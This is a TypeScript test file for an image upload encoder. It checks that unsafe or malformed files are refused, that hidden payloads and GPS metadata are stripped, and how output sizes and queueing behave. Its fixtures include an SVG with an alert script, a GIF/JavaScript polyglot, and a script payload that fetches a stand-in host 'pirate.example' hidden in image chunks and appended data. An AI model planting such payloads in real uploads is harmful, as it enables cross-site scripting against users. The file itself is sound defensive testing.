import sharp from "sharp";
import { describe, expect, test } from "vitest";
import { DomainError } from "#platform/errors.ts";
import * as pictures from "#tests/support/pictures.ts";
import { toArray } from "#tests/support/to-array.ts";
import { encodeAvif, encodePhoto, makeSlots } from "./encode.ts";
import { PHOTO_MAX_BYTES } from "./rules.ts";

const refusal = (bytes: Uint8Array): Promise<string> =>
  encodePhoto(bytes).then(
    () => "accepted",
    (error: unknown) => (error instanceof DomainError ? `${error.code} ${error.reason}` : String(error)),
  );

const text = (content: string): Uint8Array => Buffer.from(content);
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900"><script>alert(1)</script></svg>';

describe("refused", () => {
  test.each<[string, () => Uint8Array | Promise<Uint8Array>, string]>([
    ["an empty file", () => new Uint8Array(), "invalid_input photo_empty"],
    [
      "5 MB and one byte",
      async () => padded(await pictures.jpegBytes(), PHOTO_MAX_BYTES + 1),
      "too_large photo_too_large",
    ],
    ["an SVG", () => text(SVG), "unsupported_media photo_format"],
    ["an SVG behind an XML declaration", () => text(`<?xml version="1.0"?>${SVG}`), "unsupported_media photo_format"],
    ["a GIF", () => pictures.drawn(64, 64).gif().toBuffer(), "unsupported_media photo_format"],
    ["a WebP", () => pictures.drawn(64, 64).webp().toBuffer(), "unsupported_media photo_format"],
    ["a GIF that is also a script", () => text("GIF89a=1;alert(document.domain)//"), "unsupported_media photo_format"],
    [
      "a PDF that holds a JPEG",
      async () => Buffer.concat([text("%PDF-1.7\n"), await pictures.jpegBytes()]),
      "unsupported_media photo_format",
    ],
    [
      "a page that holds a JPEG",
      async () => Buffer.concat([text("<!doctype html>"), await pictures.jpegBytes()]),
      "unsupported_media photo_format",
    ],
    ["50 000 × 50 000 pixels", () => pictures.pngOfDeclaredSize(50_000, 50_000), "too_large photo_too_many_pixels"],
    ["just above 50 megapixels", () => pictures.pngOfDeclaredSize(10_000, 5_001), "too_large photo_too_many_pixels"],
    [
      "a PNG with fewer pixels than it says",
      () => pictures.pngOfDeclaredSize(2_000, 2_000),
      "invalid_input photo_broken",
    ],
    ["a truncated JPEG", async () => half(await pictures.jpegBytes()), "invalid_input photo_broken"],
    ["a truncated PNG", async () => half(await pictures.pngBytes()), "invalid_input photo_broken"],
    [
      "the first bytes of a JPEG only",
      () => Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]),
      "invalid_input photo_broken",
    ],
    [
      "the signature of a PNG only",
      () => Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      "unsupported_media photo_format",
    ],
  ])("%s", async (_name, bytes, reason) => {
    expect(await refusal(await bytes())).toBe(reason);
  });
});

/** The EXIF tag that leads to the coordinates, in Intel byte order. */
const GPS_POINTER = Buffer.from([0x25, 0x88]);
const PAYLOAD = "<script>fetch('https://pirate.example')</script>";

describe("of a picture that carries something else, only the pixels are kept", () => {
  test.each<[string, () => Promise<Uint8Array>]>([
    ["JPEG with a page in a comment", async () => pictures.jpegWithComment(await pictures.jpegBytes(), PAYLOAD)],
    [
      "JPEG followed by an archive",
      async () => Buffer.concat([await pictures.jpegBytes(), text(`PK\x03\x04${PAYLOAD}`)]),
    ],
    ["PNG with a page in a text", async () => pictures.pngWithText(await pictures.pngBytes(), PAYLOAD)],
    ["PNG followed by a program", async () => Buffer.concat([await pictures.pngBytes(), text(`<?php ${PAYLOAD}`)])],
  ])("%s", async (_name, make) => {
    const bytes = await make();
    expect(Buffer.from(bytes).includes(PAYLOAD)).toBe(true);
    const { files } = await encodePhoto(bytes);
    for (const { body } of files) expect(Buffer.from(body).includes("pirate.example")).toBe(false);
  });

  test("a phone's JPEG stands upright and says nothing of where it was taken", async () => {
    const bytes = await pictures.phoneJpeg();
    const before = await sharp(bytes).metadata();
    expect(before).toMatchObject({ width: 1200, height: 800, orientation: 6 });
    expect(before.exif?.includes(GPS_POINTER)).toBe(true);
    expect(before.xmp?.includes("GPSLatitude")).toBe(true);
    const photo = await encodePhoto(bytes);
    expect(photo).toMatchObject({ width: 800, height: 1200 });
    const avif = await toArray(encodeAvif(photo.files[0]?.body ?? new Uint8Array()));
    for (const { body } of [...photo.files, ...avif]) {
      const { exif, xmp, iptc, icc, orientation } = await sharp(body).metadata();
      expect({ exif, xmp, iptc, icc, orientation: orientation ?? 1 }).toEqual({ orientation: 1 });
      // Words long enough that compressed pixels do not spell one by chance, as they did « GPS ».
      expect(/GPSLatitude|Exif\0|Modele-secret/.test(Buffer.from(body).toString("latin1"))).toBe(false);
    }
  });
});

describe("made", () => {
  test("widths up to the picture's own, a master of at most 2400, a placeholder of at most 400 bytes", async () => {
    const photo = await encodePhoto(await pictures.jpegBytes(3000, 2000));
    expect(photo.files.map(({ width, format }) => `${width}.${format}`)).toEqual([
      "2400.jpg",
      "320.webp",
      "640.webp",
      "960.webp",
      "1280.webp",
      "1920.webp",
    ]);
    for (const { width, format, body } of photo.files) {
      expect(await sharp(body).metadata()).toMatchObject({ width, format: format === "jpg" ? "jpeg" : format });
    }
    expect(photo.placeholder).toMatch(/^data:image\/webp;base64,/);
    expect(photo.placeholder.length).toBeLessThanOrEqual(400);
  });

  test("exactly 5 MB is taken", async () => {
    expect(await refusal(padded(await pictures.jpegBytes(400, 300), PHOTO_MAX_BYTES))).toBe("accepted");
  });

  test.each<[string, () => Promise<Uint8Array>]>([
    ["grey", () => pictures.drawn(500, 300).greyscale().png().toBuffer()],
    ["with a palette", () => pictures.drawn(500, 300).png({ palette: true }).toBuffer()],
    ["see-through", () => pictures.drawn(500, 300).ensureAlpha(0.2).png().toBuffer()],
    ["grey and see-through", () => pictures.drawn(500, 300).greyscale().ensureAlpha(0.2).png().toBuffer()],
    ["of 16 bits", () => pictures.drawn(500, 300).toColourspace("rgb16").png().toBuffer()],
    ["for print", () => pictures.drawn(500, 300).toColourspace("cmyk").jpeg().toBuffer()],
    ["progressive", () => pictures.drawn(500, 300).jpeg({ progressive: true }).toBuffer()],
    ["of one pixel", () => pictures.drawn(1, 1).png().toBuffer()],
  ])("from a picture %s", async (_name, make) => {
    const photo = await encodePhoto(await make());
    for (const { body } of photo.files) {
      expect(await sharp(body).metadata()).toMatchObject({ channels: 3, hasAlpha: false, space: "srgb" });
    }
  });
});

test("two at a time, the others in line, and no endless line", async () => {
  const inSlot = makeSlots(2, 3);
  let running = 0;
  let most = 0;
  const work = async () => {
    most = Math.max(most, ++running);
    await new Promise((resolve) => setTimeout(resolve, 10));
    running--;
  };
  const results = await Promise.allSettled(Array.from({ length: 7 }, () => inSlot(work)));
  expect(most).toBe(2);
  expect(results.map((result) => result.status).filter((status) => status === "rejected")).toHaveLength(2);
  await expect(inSlot(() => Promise.reject(new Error("broken")))).rejects.toThrow("broken");
  await expect(inSlot(async () => "free again")).resolves.toBe("free again");
});

function half(bytes: Uint8Array): Uint8Array {
  return bytes.subarray(0, bytes.length / 2);
}

function padded(bytes: Uint8Array, length: number): Uint8Array {
  return Buffer.concat([bytes, new Uint8Array(length - bytes.length)]);
}
